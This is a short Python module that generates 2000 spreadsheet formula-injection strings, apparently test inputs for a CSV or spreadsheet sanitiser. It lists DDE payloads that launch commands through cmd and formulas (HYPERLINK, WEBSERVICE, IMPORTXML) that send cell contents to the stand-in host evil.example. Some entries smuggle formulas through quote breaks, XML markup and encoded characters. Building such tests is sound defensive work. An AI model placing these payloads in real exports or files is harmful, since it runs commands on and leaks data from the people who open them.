"""Two thousand texts that a spreadsheet might take for something else than a text."""

import random

SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    '"',
    "'",
    ";",
    ",",
    " =",
    "\u200b=",
    "\ufeff=",
)
COMMANDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    "SUM(A1:A9)*cmd|'/C calc'!A0",
    'WEBSERVICE("http://evil.example/")',
    'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "DDE('cmd';'/C calc';'__DdeLink_60_870516294')",
    "@SUM(1)",
    "A1",
    "2026-12-01",
    "1E5",
    "TRUE",
    '","=1+1","',
    ";=1+1;",
    "\r\n=1+1",
    '"\n=1+1\n"',
    "<f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "_x003D_1+1",
    "&#61;1+1",
)


def _make(count: int) -> list[str]:
    draw = random.Random(14)  # the same texts in every run
    known = [sign + command for sign in SIGNS for command in COMMANDS]
    mixed = [
        "".join(draw.choice((*SIGNS, *COMMANDS, "договор", "a", "0")) for _ in range(draw.randint(1, 4)))
        for _ in range(count - len(known))
    ]
    return known + mixed


HOSTILE = _make(2000)
